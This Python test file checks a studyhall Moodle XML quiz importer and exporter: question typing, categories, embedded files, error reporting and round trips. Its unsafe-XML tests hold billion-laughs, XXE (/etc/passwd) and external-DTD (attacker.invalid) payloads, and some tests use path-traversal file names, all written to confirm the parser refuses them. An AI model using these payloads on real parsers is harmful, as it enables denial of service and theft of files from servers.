"""Moodle XML import types every question the way Moodle does, keeps embedded files,
refuses unsafe XML, reports what it cannot read, and export reads back the same."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import get_args

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studyhall.questions.formats import (
    Choice,
    MatchPair,
    NumericAnswer,
    ParsedQuestion,
    ParseIssue,
    ShortAnswer,
    parse_gift,
)
from studyhall.questions.formats.model import TEXT_FORMATS, QuestionKind, TextFormat
from studyhall.questions.formats.moodlexml import (
    EmbeddedFile,
    guess_media_type,
    parse_moodle_xml,
    parse_moodle_xml_with_files,
    write_moodle_xml,
)

FIXTURES = Path(__file__).parent / "fixtures"
TRIM = " \t\n\r\x00\x0b"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def quiz(*questions: str) -> str:
    """A file as Moodle writes it, around question elements."""
    return '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n' + "\n".join(questions) + "</quiz>\n"


def question(kind: str, body: str = "", text: str = "Question?", fmt: str = "html") -> str:
    return (
        f'  <question type="{kind}">\n'
        "    <name>\n      <text>Q</text>\n    </name>\n"
        f'    <questiontext format="{fmt}">\n      <text>{text}</text>\n    </questiontext>\n'
        f"{body}"
        "  </question>\n"
    )


def answer(fraction: str, text: str, feedback: str = "", fmt: str = "html") -> str:
    return (
        f'    <answer fraction="{fraction}" format="{fmt}">\n'
        f"      <text>{text}</text>\n"
        f'      <feedback format="html">\n        <text>{feedback}</text>\n      </feedback>\n'
        "    </answer>\n"
    )


def one(source: str) -> ParsedQuestion:
    """The single question a file holds (no errors allowed)."""
    report = parse_moodle_xml(source)
    assert report.errors == []
    assert len(report.questions) == 1
    return report.questions[0]


def broken(source: str) -> ParseIssue:
    """The single issue a file raises (no question may slip through)."""
    report = parse_moodle_xml(source)
    assert report.questions == []
    assert len(report.errors) == 1
    return report.errors[0]


def unlined(questions: list[ParsedQuestion]) -> list[ParsedQuestion]:
    return [msgspec.structs.replace(q, line=0) for q in questions]


# A whole Moodle export


def test_a_moodle_export_counts_and_types_every_question() -> None:
    source = (FIXTURES / "moodle_export.xml").read_text()
    report, files = parse_moodle_xml_with_files(source)
    assert report.errors == []
    assert [q.kind for q in report.questions] == [
        "single",
        "multiple",
        "truefalse",
        "shortanswer",
        "numerical",
        "matching",
        "essay",
        "description",
    ]
    starts = [
        number
        for number, line in enumerate(source.splitlines(), 1)
        if "<question type=" in line and "category" not in line
    ]
    assert [q.line for q in report.questions] == starts
    assert [q.category for q in report.questions] == [
        *["$course$/top/Default for History/Grant"] * 3,
        *["$course$/top/Default for History/Numbers"] * 5,
    ]
    assert files == {0: [EmbeddedFile(name="tomb.png", data=PNG, media_type="image/png")]}


def test_moodle_export_single_choice_in_detail() -> None:
    report = parse_moodle_xml((FIXTURES / "moodle_export.xml").read_text())
    first = report.questions[0]
    assert first.title == "Grant's tomb"
    assert first.idnumber == "GRANT-1"
    assert first.tags == ["history", "us presidents"]
    assert first.text_format == "html"
    assert first.text.startswith("<p>Who is buried in Grant's tomb?</p>")
    assert '<img src="@@PLUGINFILE@@/tomb.png"' in first.text
    assert first.general_feedback == "<p>Nobody is <em>buried</em>: they are entombed.</p>"
    assert first.general_feedback_format is None
    assert first.choices == [
        Choice(text="<p>Grant</p>", fraction=0.0, feedback="<p>He is entombed, not buried.</p>"),
        Choice(text="<p>No one</p>", fraction=1.0),
        Choice(text="Napoleon & Josephine", fraction=0.0, text_format="plain"),
    ]


# One test per question type


def test_multichoice_single() -> None:
    q = one(
        quiz(
            question(
                "multichoice",
                "    <single>true</single>\n"
                + answer("100", "Paris", "Yes")
                + answer("0", "Lyon")
                + answer("-50", "Nice", "No"),
            )
        )
    )
    assert q.kind == "single"
    assert q.choices == [
        Choice(text="Paris", fraction=1.0, feedback="Yes"),
        Choice(text="Lyon", fraction=0.0),
        Choice(text="Nice", fraction=-0.5, feedback="No"),
    ]


def test_multichoice_multiple_keeps_moodles_fractions_exactly() -> None:
    q = one(
        quiz(
            question(
                "multichoice",
                "    <single>false</single>\n"
                + answer("33.33333", "a")
                + answer("33.33333", "b")
                + answer("33.33334", "c")
                + answer("-100", "d"),
            )
        )
    )
    assert q.kind == "multiple"
    assert [c.fraction for c in q.choices] == [0.3333333, 0.3333333, 0.3333334, -1.0]


@pytest.mark.parametrize(
    ("single", "kind"),
    [
        ("<single>true</single>", "single"),
        ("<single>1</single>", "single"),
        ("", "single"),  # Moodle's default
        ("<single>false</single>", "multiple"),
        ("<single>0</single>", "multiple"),
        ("<single></single>", "multiple"),
    ],
)
def test_single_flag_is_read_like_moodle(single: str, kind: str) -> None:
    body = f"    {single}\n" + answer("100", "a") + answer("0", "b")
    assert one(quiz(question("multichoice", body))).kind == kind


@pytest.mark.parametrize(("true", "false", "correct"), [("100", "0", True), ("0", "100", False)])
def test_truefalse(true: str, false: str, correct: bool) -> None:
    body = answer(true, "true", "T said", "moodle_auto_format") + answer(
        false, "false", "F said", "moodle_auto_format"
    )
    q = one(quiz(question("truefalse", body, fmt="moodle_auto_format")))
    assert q.kind == "truefalse"
    assert q.correct is correct
    assert (q.feedback_true, q.feedback_false) == ("T said", "F said")
    assert (q.feedback_true_format, q.feedback_false_format) == ("html", "html")


def test_truefalse_from_an_old_localised_export_goes_by_order() -> None:
    body = answer("0", "Wahr") + answer("100", "Falsch", "Richtig")
    q = one(quiz(question("truefalse", body)))
    assert q.correct is False
    assert q.feedback_false == "Richtig"


def test_shortanswer_accepts_usecase_and_wildcard() -> None:
    body = (
        "    <usecase>1</usecase>\n"
        + answer("100", "Frog", "Good!", "moodle_auto_format")
        + answer("50", "Cat", "Cats...", "moodle_auto_format")
        + answer("0", "*", "No", "moodle_auto_format")
    )
    q = one(quiz(question("shortanswer", body)))
    assert q.kind == "shortanswer"
    assert q.short_answers == [
        ShortAnswer(text="Frog", feedback="Good!"),
        ShortAnswer(text="Cat", fraction=0.5, feedback="Cats..."),
        ShortAnswer(text="*", fraction=0.0, feedback="No"),
    ]


def test_numerical_with_tolerance_and_any_other_answer() -> None:
    body = (
        '    <answer fraction="100" format="moodle_auto_format">\n      <text>1822</text>\n'
        "      <tolerance>0</tolerance>\n    </answer>\n"
        '    <answer fraction="50">\n      <text>1.822e3</text>\n'
        "      <tolerance>2.5</tolerance>\n"
        '      <feedback format="html"><text>Close</text></feedback>\n    </answer>\n'
        '    <answer fraction="0">\n      <text>*</text>\n      <tolerance>0</tolerance>\n'
        '      <feedback format="html"><text>Not even close</text></feedback>\n    </answer>\n'
        "    <units/>\n    <unitgradingtype>0</unitgradingtype>\n"
    )
    q = one(quiz(question("numerical", body)))
    assert q.kind == "numerical"
    assert q.numeric_answers == [
        NumericAnswer(value=1822.0),
        NumericAnswer(value=1822.0, tolerance=2.5, fraction=0.5, feedback="Close"),
        NumericAnswer(fraction=0.0, feedback="Not even close"),
    ]


@pytest.mark.parametrize("kind", ["matching", "match"])
def test_matching_with_a_distractor(kind: str) -> None:
    body = "".join(
        f'    <subquestion format="{fmt}">\n      <text>{prompt}</text>\n'
        f"      <answer>\n        <text>{reply}</text>\n      </answer>\n    </subquestion>\n"
        for fmt, prompt, reply in [
            ("html", "Canada", "Ottawa"),
            ("plain_text", "&lt;Italy&gt;", "Rome"),
            ("html", "", "Lisbon"),
            ("html", "", ""),  # an unused row of Moodle's form
        ]
    )
    q = one(quiz(question(kind, body)))
    assert q.kind == "matching"
    assert q.pairs == [
        MatchPair(prompt="Canada", answer="Ottawa"),
        MatchPair(prompt="<Italy>", answer="Rome", prompt_format="plain"),
        MatchPair(prompt="", answer="Lisbon"),
    ]


def test_essay_and_description() -> None:
    feedback = '    <generalfeedback format="html">\n      <text>Mention the date.</text>\n'
    feedback += "    </generalfeedback>\n    <responseformat>editor</responseformat>\n"
    report = parse_moodle_xml(
        quiz(question("essay", feedback), question("description", text="Read this."))
    )
    assert report.errors == []
    essay, description = report.questions
    assert (essay.kind, essay.general_feedback) == ("essay", "Mention the date.")
    assert (description.kind, description.text) == ("description", "Read this.")


# Constructs shared by every type


def test_name_idnumber_tags_and_course_tags() -> None:
    body = (
        "    <idnumber>  Q-7 </idnumber>\n"
        "    <tags>\n      <tag><text>history</text></tag>\n      <tag><text> </text></tag>\n"
        "    </tags>\n    <coursetags>\n      <tag><text>unit 1</text></tag>\n    </coursetags>\n"
    )
    q = one(quiz(question("essay", body)))
    assert (q.title, q.idnumber, q.tags) == ("Q", "Q-7", ["history", "unit 1"])
    bare = one(
        quiz('<question type="essay"><questiontext><text>Hi</text></questiontext></question>')
    )
    assert (bare.title, bare.idnumber, bare.tags) == (None, None, [])


@pytest.mark.parametrize(
    ("attribute", "text_format"),
    [
        ('format="moodle_auto_format"', "moodle"),
        ('format="html"', "html"),
        ('format="plain_text"', "plain"),
        ('format="markdown"', "markdown"),
        ('format="wiki_like"', "markdown"),
        ('format="nonsense"', "html"),  # Moodle: "Assuming 'html'"
        ("", "html"),  # Moodle's default for the question text
    ],
)
def test_question_text_formats(attribute: str, text_format: str) -> None:
    source = f'<quiz><question type="essay"><questiontext {attribute}><text>Hi</text>'
    assert one(source + "</questiontext></question></quiz>").text_format == text_format


def test_parts_without_format_take_the_questions() -> None:
    body = (
        '    <answer fraction="100"><text>a</text><feedback><text>f</text></feedback></answer>\n'
        '    <answer fraction="0" format="html"><text>b</text></answer>\n'
        "    <generalfeedback><text>g</text></generalfeedback>\n"
    )
    q = one(quiz(question("multichoice", body, fmt="markdown")))
    assert q.choices == [
        Choice(text="a", fraction=1.0, feedback="f"),
        Choice(text="b", fraction=0.0, text_format="html"),
    ]
    assert (q.general_feedback, q.general_feedback_format) == ("g", None)


def test_escaped_and_cdata_text_read_the_same() -> None:
    escaped = one(quiz(question("essay", text="&lt;p&gt;A &amp;amp; B&lt;/p&gt;")))
    cdata = one(quiz(question("essay", text="<![CDATA[<p>A &amp; B</p>]]>")))
    assert escaped.text == cdata.text == "<p>A &amp; B</p>"
    split = one(quiz(question("essay", text="<![CDATA[a ]]]]><![CDATA[> b]]>")))
    assert split.text == "a ]]> b"


def test_texts_are_trimmed_like_moodle() -> None:
    q = one(quiz(question("essay", text="\n   Line one\n  line two  \n")))
    assert q.text == "Line one\n  line two"


# Categories


def test_category_applies_to_the_questions_after_it() -> None:
    def category(path: str) -> str:
        return (
            f'  <question type="category">\n    <category>\n      <text>{path}</text>\n'
            "    </category>\n  </question>\n"
        )

    report = parse_moodle_xml(
        quiz(
            question("essay", text="First"),
            category("$course$/top/Unit 1"),
            question("essay", text="Second"),
            question("essay", text="Third"),
            category("$course$/top/Unit 1/Part &amp; parcel"),
            question("essay", text="Fourth"),
            category(""),
            question("essay", text="Fifth"),
            '<question type="category"><category>$course$/Old</category></question>',
            question("essay", text="Sixth"),
        )
    )
    assert report.errors == []
    assert [q.category for q in report.questions] == [
        None,
        "$course$/top/Unit 1",
        "$course$/top/Unit 1",
        "$course$/top/Unit 1/Part & parcel",
        None,
        "$course$/Old",
    ]


# Embedded files


def test_embedded_files_are_kept_per_question() -> None:
    encoded = base64.encodebytes(PNG).decode()  # with line breaks, as some tools write it
    with_files = question(
        "multichoice",
        answer("100", '<![CDATA[<img src="@@PLUGINFILE@@/a.png">]]>')[: -len("    </answer>\n")]
        + f'      <file name="a.png" path="/" encoding="base64">{encoded}</file>\n'
        + "    </answer>\n"
        + answer("0", "b")
        + '    <generalfeedback format="html"><text>see</text>\n'
        + '      <file name="clip.mp3" path="/sounds/" encoding="base64">AAEC</file>\n'
        + '      <file name="a.png" encoding="base64">'
        + base64.b64encode(PNG).decode()
        + "</file>\n"  # the same file again: kept once
        + "    </generalfeedback>\n",
    )
    report, files = parse_moodle_xml_with_files(
        quiz(
            question("essay", text="no files"),
            question("calculated"),  # reported, so it takes no index
            with_files,
        )
    )
    assert len(report.questions) == 2
    assert files == {
        1: [
            EmbeddedFile(name="a.png", data=PNG, media_type="image/png"),
            EmbeddedFile(name="sounds/clip.mp3", data=b"\x00\x01\x02", media_type="audio/mpeg"),
        ]
    }


@pytest.mark.parametrize(
    ("name", "media_type"),
    [
        ("a.PNG", "image/png"),
        ("photo.jpeg", "image/jpeg"),
        ("chart.svg", "image/svg+xml"),
        ("pic.webp", "image/webp"),
        ("sound.ogg", "audio/ogg"),
        ("clip.mp4", "video/mp4"),
        ("notes", "application/octet-stream"),
    ],
)
def test_media_type_from_the_extension(name: str, media_type: str) -> None:
    assert guess_media_type(name) == media_type


@pytest.mark.parametrize(
    ("file", "words"),
    [
        ('<file name="x.png" encoding="base64">not*base64</file>', "not valid base64"),
        ('<file name="x.png" encoding="base64">QUI</file>', "not valid base64"),
        ('<file name="x.png" encoding="base64">QUJDQQ==QQ==</file>', "not valid base64"),
        ('<file name="x.png" encoding="base64">ÄÖÜ</file>', "not valid base64"),
        ('<file name="x.png" encoding="hex">00</file>', "not base64"),
        ('<file name="" encoding="base64">AAEC</file>', "not an acceptable"),
        ('<file name="x.png" path="/../" encoding="base64">AAEC</file>', "not an acceptable"),
        ('<file name="a\\b.png" encoding="base64">AAEC</file>', "not an acceptable"),
        (
            '<file name="x.png" encoding="base64">AAEC</file><file name="x.png">AAED</file>',
            "two different embedded files",
        ),
    ],
)
def test_bad_embedded_files_break_their_question(file: str, words: str) -> None:
    bad = question(
        "essay",
        f"    <generalfeedback>\n      <text>x</text>\n      {file}\n    </generalfeedback>\n",
    )
    report, files = parse_moodle_xml_with_files(quiz(bad, question("essay", text="Fine")))
    assert [q.text for q in report.questions] == ["Fine"]
    assert files == {}
    (issue,) = report.errors
    assert issue.line == 12  # the <file> element's line
    assert words in issue.message


def test_a_file_the_caller_refuses_breaks_its_question_at_the_file_line() -> None:
    def png_only(file: EmbeddedFile) -> str | None:
        return None if file.media_type == "image/png" else f"'{file.name}' is not a PNG"

    def with_files(*names: str) -> str:
        embedded = "".join(
            f'      <file name="{name}" encoding="base64">AAEC</file>\n' for name in names
        )
        return question(
            "essay",
            f"    <generalfeedback>\n      <text>x</text>\n{embedded}    </generalfeedback>\n",
        )

    report, files = parse_moodle_xml_with_files(
        quiz(with_files("a.png", "b.mp3"), with_files("c.png")), check_file=png_only
    )
    assert report.errors == [ParseIssue(13, "'b.mp3' is not a PNG")]  # the <file> line
    assert len(report.questions) == 1
    assert files == {0: [EmbeddedFile(name="c.png", data=b"\x00\x01\x02", media_type="image/png")]}


# What cannot be imported is reported with its line


@pytest.mark.parametrize("kind", ["calculated", "calculatedmulti", "cloze", "ddwtos", "random"])
def test_unsupported_types_are_reported_not_dropped(kind: str) -> None:
    report = parse_moodle_xml(quiz(question("essay"), question(kind), question("description")))
    assert [q.kind for q in report.questions] == ["essay", "description"]
    assert report.errors == [
        ParseIssue(
            12,
            f"unsupported question type '{kind}' (studyhall imports multichoice, truefalse, "
            "shortanswer, numerical, matching, essay and description)",
        )
    ]


NUMERIC_UNITS = (
    '    <answer fraction="100"><text>5</text><tolerance>0</tolerance></answer>\n'
    "    <units>\n      <unit>\n        <multiplier>1</multiplier>\n"
    "        <unit_name>m</unit_name>\n      </unit>\n    </units>\n"
)


@pytest.mark.parametrize(
    ("source", "line", "words"),
    [
        ("<question><questiontext><text>Hi</text></questiontext></question>", 3, "without a type"),
        (question("essay", text=""), 3, "has no text"),
        (question("essay", text="<![CDATA[  ]]>"), 3, "has no text"),
        (question("essay", text="<p>Hi</p>"), 8, "write HTML inside <![CDATA["),
        (question("multichoice", answer("100", "a")), 3, "at least two choices"),
        (question("multichoice", answer("50", "a") + answer("50", "b")), 3, "worth 100%"),
        (
            question(
                "multichoice", "<single>false</single>" + answer("50", "a") + answer("0", "b")
            ),
            3,
            "add up to 100% (these add up to 50%)",
        ),
        (question("multichoice", answer("100", "a") + answer("", "b")), 16, "not a percentage"),
        (question("multichoice", answer("100", "a") + answer("150", "b")), 16, "not a percentage"),
        (question("multichoice", answer("100", "a") + answer("0", "")), 16, "a choice has no text"),
        (question("truefalse", ""), 3, "needs its 'true' and 'false'"),
        (
            question("truefalse", answer("100", "true") + answer("100", "false")),
            3,
            "exactly one of the 'true' and 'false' answers",
        ),
        (
            question("truefalse", answer("100", "true") + answer("0", "true")),
            16,
            "a second 'true' answer",
        ),
        (question("shortanswer", ""), 3, "at least one answer"),
        (question("shortanswer", answer("100", " ")), 10, "a short answer has no text"),
        (question("numerical", answer("100", "1,5")), 10, "'1,5' is not a number"),
        (question("numerical", answer("100", "1e999")), 10, "'1e999' is not a number"),
        (question("numerical", answer("100", "*")), 3, "at least one numeric answer"),
        (
            question(
                "numerical",
                '<answer fraction="100"><text>5</text>\n<tolerance>-1</tolerance></answer>',
            ),
            11,
            "the tolerance -1 is negative",
        ),
        (question("numerical", NUMERIC_UNITS), 12, "units (here 'm') are not supported"),
        (
            question(
                "matching",
                "<subquestion><text>a</text><answer><text>1</text></answer></subquestion>\n"
                "<subquestion><text>b</text><answer><text>2</text></answer></subquestion>\n",
            ),
            3,
            "at least three answers",
        ),
        (
            question(
                "matching",
                "<subquestion><text>a</text><answer><text>1</text></answer></subquestion>\n"
                "<subquestion><text>b</text><answer><text>2</text></answer></subquestion>\n"
                "<subquestion><text>c</text><answer><text></text></answer></subquestion>\n",
            ),
            12,
            "the prompt 'c' has no answer",
        ),
        ("<notaquestion/>\n", 3, "<notaquestion> is not a <question>"),
        ('<question type="category"><info/></question>\n', 3, "a category question needs"),
    ],
)
def test_broken_question_is_reported_with_its_line(source: str, line: int, words: str) -> None:
    issue = broken(quiz(source))
    assert issue.line == line
    assert words in issue.message


def test_broken_questions_do_not_stop_the_others() -> None:
    report = parse_moodle_xml(
        quiz(
            question("essay", text="One"),
            question("numerical", answer("100", "x")),
            question("essay", text="Three"),
            question("ddmarker"),
            question("essay", text="Five"),
        )
    )
    assert [q.text for q in report.questions] == ["One", "Three", "Five"]
    assert [q.line for q in report.questions] == [3, 27, 45]
    assert [issue.line for issue in report.errors] == [12 + 7, 36]  # the bad <answer>, the type


@pytest.mark.parametrize(
    ("source", "line", "words"),
    [
        ("", 1, "no element found"),
        ("<quiz>\n<question type='essay'>\n</quiz>\n", 3, "mismatched tag"),
        ("<quiz>\n  <question type=essay/>\n</quiz>", 2, "not well-formed"),
        ("<quiz>\n&nbsp;\n</quiz>", 2, "undefined entity"),
        ("<quiz></quiz>\n<quiz></quiz>", 2, "junk after document element"),
        ("<quiz>\x01</quiz>", 1, "not well-formed"),
    ],
)
def test_malformed_xml_is_one_issue_and_no_questions(source: str, line: int, words: str) -> None:
    report, files = parse_moodle_xml_with_files(source)
    assert report.questions == []
    assert files == {}
    (issue,) = report.errors
    assert issue.line == line
    assert issue.message.startswith("malformed XML: ")
    assert words in issue.message


def test_a_file_that_is_not_a_quiz() -> None:
    issue = broken("<?xml version='1.0'?>\n<html><body/></html>")
    assert issue == ParseIssue(2, "not a Moodle XML file: the root element is <html>, not <quiz>")


def test_a_byte_order_mark_and_other_declared_encodings_are_fine() -> None:
    source = '\ufeff<?xml version="1.0" encoding="ISO-8859-1"?>\n' + quiz(
        question("essay", text="Zé")
    )
    assert one(source.replace('<?xml version="1.0" encoding="UTF-8"?>\n', "")).text == "Zé"


# Unsafe XML is refused before anything is read

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="essay"><questiontext><text>&lol9;</text></questiontext></question></quiz>
"""
XXE = """<?xml version="1.0"?>

<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.invalid/evil.dtd">
<quiz><question type="essay"><questiontext><text>Hi</text></questiontext></question></quiz>
"""


@pytest.mark.parametrize(("source", "line"), [(BILLION_LAUGHS, 2), (XXE, 3), (EXTERNAL_DTD, 2)])
def test_dtds_and_entities_are_refused(source: str, line: int) -> None:
    report, files = parse_moodle_xml_with_files(source)
    assert report.questions == []
    assert files == {}
    (issue,) = report.errors
    assert issue.line == line
    assert issue.message.startswith("refused: the file declares a DTD")
    assert "lol" not in issue.message


# Writing


def round_trip(
    questions: list[ParsedQuestion], files: dict[int, list[EmbeddedFile]] | None = None
) -> tuple[list[ParsedQuestion], dict[int, list[EmbeddedFile]]]:
    report, read_files = parse_moodle_xml_with_files(write_moodle_xml(questions, files))
    assert report.errors == []
    return unlined(report.questions), read_files


def test_write_reads_back_the_moodle_export() -> None:
    report, files = parse_moodle_xml_with_files((FIXTURES / "moodle_export.xml").read_text())
    assert round_trip(report.questions, files) == (unlined(report.questions), files)


def test_write_looks_like_moodles_export() -> None:
    q = ParsedQuestion(
        kind="single",
        title="Colours",
        text="<p>Which colour?</p>",
        text_format="html",
        idnumber="C-1",
        tags=["art"],
        choices=[
            Choice(text="red", fraction=1.0, feedback="Yes"),
            Choice(text="blue & green", fraction=-0.5, text_format="plain"),
        ],
    )
    assert write_moodle_xml([q]) == (
        '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n'
        '  <question type="multichoice">\n'
        "    <name>\n      <text>Colours</text>\n    </name>\n"
        '    <questiontext format="html">\n'
        "      <text><![CDATA[<p>Which colour?</p>]]></text>\n"
        "    </questiontext>\n"
        '    <generalfeedback format="html">\n      <text></text>\n    </generalfeedback>\n'
        "    <idnumber>C-1</idnumber>\n"
        "    <single>true</single>\n"
        "    <shuffleanswers>true</shuffleanswers>\n"
        "    <answernumbering>abc</answernumbering>\n"
        '    <answer fraction="100" format="html">\n'
        "      <text>red</text>\n"
        '      <feedback format="html">\n        <text>Yes</text>\n      </feedback>\n'
        "    </answer>\n"
        '    <answer fraction="-50" format="plain_text">\n'
        "      <text><![CDATA[blue & green]]></text>\n"
        '      <feedback format="html">\n        <text></text>\n      </feedback>\n'
        "    </answer>\n"
        "    <tags>\n      <tag><text>art</text></tag>\n    </tags>\n"
        "  </question>\n\n</quiz>\n"
    )


def test_write_keeps_cdata_ends_and_carriage_returns() -> None:
    for text in ["a ]]> b", "<b>x</b>\r\n<i>y</i>", "line\rbreak", "]]>]]>", "&amp;"]:
        q = ParsedQuestion(kind="essay", text=text)
        assert round_trip([q])[0] == [q]


def test_write_turns_a_range_into_moodles_midpoint_and_tolerance() -> None:
    q = ParsedQuestion(
        kind="numerical", text="1 to 3?", numeric_answers=[NumericAnswer(min=1.0, max=3.0)]
    )
    (read,), _ = round_trip([q])
    assert read.numeric_answers == [NumericAnswer(value=2.0, tolerance=1.0)]


def test_write_refuses_what_xml_cannot_hold() -> None:
    with pytest.raises(ValueError, match="U\\+0001"):
        write_moodle_xml([ParsedQuestion(kind="essay", text="bell \x01")])
    with pytest.raises(ValueError, match="not a safe"):
        write_moodle_xml(
            [ParsedQuestion(kind="essay", text="x")],
            {0: [EmbeddedFile(name="../x.png", data=b"", media_type="image/png")]},
        )
    nan = ParsedQuestion(
        kind="numerical", text="x", numeric_answers=[NumericAnswer(value=float("nan"))]
    )
    with pytest.raises(ValueError, match="nan"):
        write_moodle_xml([nan])


def test_many_questions_parse_with_correct_lines() -> None:
    source = write_moodle_xml(
        [ParsedQuestion(kind="essay", text=f"Q{i}", category=f"c{i // 100}") for i in range(3000)]
    )
    report = parse_moodle_xml(source)
    assert report.errors == []
    starts = [n for n, line in enumerate(source.splitlines(), 1) if '"essay"' in line]
    assert [q.line for q in report.questions] == starts


# Cross-format: GIFT in, Moodle XML out and back


def without_ranges(question: ParsedQuestion) -> ParsedQuestion:
    """What Moodle itself does with a GIFT range: its midpoint, ± half its width."""
    answers = [
        msgspec.structs.replace(
            a, value=a.min / 2 + a.max / 2, tolerance=a.max / 2 - a.min / 2, min=None, max=None
        )
        if a.min is not None and a.max is not None
        else a
        for a in question.numeric_answers
    ]
    return msgspec.structs.replace(question, numeric_answers=answers, line=0)


def test_gift_to_moodle_xml_and_back_gives_the_same_questions() -> None:
    gift = parse_gift((FIXTURES / "moodlexml_cross.gift").read_text())
    assert gift.errors == []
    assert len(gift.questions) == 11
    assert {q.kind for q in gift.questions} == set(get_args(QuestionKind))
    assert round_trip(gift.questions)[0] == [without_ranges(q) for q in gift.questions]


# Round trip over every kind with hostile text

FRAGMENTS = st.sampled_from(
    [
        *("<", ">", "&", "&amp;", "]]>", "<![CDATA[", "]]", "\r", "\r\n", "\n", "\t", " ", '"'),
        *("'", "@@PLUGINFILE@@/a.png", "<p>", "</p>", "*", "%", "-", "{", "}", "#", "=", "~"),
        *("true", "a", "Zé", "1", "\u00a0", "\u2028", "😀", "\x7f", "\ufdd0", "\ufffd"),
    ]
)
LETTERS = st.characters(codec="utf-8").filter(
    lambda c: c in "\t\n\r" or (c >= " " and c not in "\ufffe\uffff")
)
FRACTIONS = st.floats(-1, 1)
NUMBERS = st.floats(allow_nan=False, allow_infinity=False)


def texts() -> st.SearchStrategy[str]:
    pieces = st.lists(FRAGMENTS | st.text(LETTERS, min_size=1, max_size=4), min_size=1, max_size=8)
    return pieces.map("".join).map(lambda text: text.strip(TRIM)).filter(bool)


def maybe(strategy: st.SearchStrategy[str]) -> st.SearchStrategy[str | None]:
    return st.none() | strategy


@st.composite
def questions(draw: st.DrawFn) -> ParsedQuestion:
    """Any valid question of any kind, in the canonical form parse_moodle_xml produces."""
    kind: QuestionKind = draw(st.sampled_from(get_args(QuestionKind)))
    text_format: TextFormat = draw(st.sampled_from(TEXT_FORMATS))
    own_formats = st.sampled_from([None, *(f for f in TEXT_FORMATS if f != text_format)])

    def own_format() -> TextFormat | None:
        return draw(own_formats)

    def rich() -> tuple[str | None, TextFormat | None]:
        text = draw(maybe(texts()))
        return text, own_format() if text else None

    general, general_format = rich()
    question = ParsedQuestion(
        kind=kind,
        text=draw(texts()),
        text_format=text_format,
        title=draw(maybe(texts())),
        category=draw(maybe(texts())),
        idnumber=draw(maybe(texts())),
        tags=draw(st.lists(texts(), max_size=3)),
        general_feedback=general,
        general_feedback_format=general_format,
    )
    replace = msgspec.structs.replace
    if kind in ("single", "multiple"):
        if kind == "single":
            fractions = [1.0, *draw(st.lists(FRACTIONS, min_size=1, max_size=3))]
        else:
            right = draw(st.integers(1, 3))
            wrong = draw(st.lists(st.floats(-1, 0), min_size=max(0, 2 - right), max_size=3))
            fractions = [1 / right] * right + wrong
        choices = []
        for fraction in draw(st.permutations(fractions)):
            feedback, feedback_format = rich()
            choices.append(
                Choice(
                    text=draw(texts()),
                    fraction=fraction,
                    feedback=feedback,
                    text_format=own_format(),
                    feedback_format=feedback_format,
                )
            )
        return replace(question, choices=choices)
    if kind == "truefalse":
        (true, true_format), (false, false_format) = rich(), rich()
        return replace(
            question,
            correct=draw(st.booleans()),
            feedback_true=true,
            feedback_true_format=true_format,
            feedback_false=false,
            feedback_false_format=false_format,
        )
    if kind == "numerical":
        values = [
            NumericAnswer(value=draw(NUMBERS), tolerance=abs(draw(NUMBERS)))
            for _ in range(draw(st.integers(1, 3)))
        ]
        values += [NumericAnswer()] * draw(st.integers(0, 2))
        numeric = []
        for value in draw(st.permutations(values)):
            feedback, feedback_format = rich()
            numeric.append(
                replace(
                    value,
                    fraction=draw(FRACTIONS),
                    feedback=feedback,
                    feedback_format=feedback_format,
                )
            )
        return replace(question, numeric_answers=numeric)
    if kind == "shortanswer":
        short = []
        for _ in range(draw(st.integers(1, 3))):
            feedback, feedback_format = rich()
            short.append(
                ShortAnswer(
                    text=draw(texts()),
                    fraction=draw(FRACTIONS),
                    feedback=feedback,
                    feedback_format=feedback_format,
                )
            )
        return replace(question, short_answers=short)
    if kind == "matching":
        prompted = draw(st.integers(2, 4))
        pairs = [
            MatchPair(prompt=draw(texts()), answer=draw(texts()), prompt_format=own_format())
            for _ in range(prompted)
        ]
        pairs += [
            MatchPair(prompt="", answer=draw(texts()))
            for _ in range(draw(st.integers(1 if prompted == 2 else 0, 2)))
        ]
        return replace(question, pairs=draw(st.permutations(pairs)))
    return question


@st.composite
def files_for(draw: st.DrawFn, count: int) -> dict[int, list[EmbeddedFile]]:
    names = st.lists(
        st.from_regex(r"[a-z0-9_-]{1,8}(/[a-z0-9_-]{1,8})?\.(png|jpg|svg|mp3|bin)", fullmatch=True),
        min_size=1,
        max_size=3,
        unique=True,
    )
    attached = draw(st.dictionaries(st.integers(0, count - 1), names, max_size=count))
    return {
        index: [
            EmbeddedFile(
                name=name, data=draw(st.binary(max_size=64)), media_type=guess_media_type(name)
            )
            for name in file_names
        ]
        for index, file_names in sorted(attached.items())
    }


@settings(max_examples=400)
@given(
    st.lists(questions(), min_size=1, max_size=4).flatmap(
        lambda qs: st.tuples(st.just(qs), files_for(len(qs)))
    )
)
def test_write_then_parse_gives_the_same_questions(
    generated: tuple[list[ParsedQuestion], dict[int, list[EmbeddedFile]]],
) -> None:
    questions_, files = generated
    assert round_trip(questions_, files) == (questions_, files)
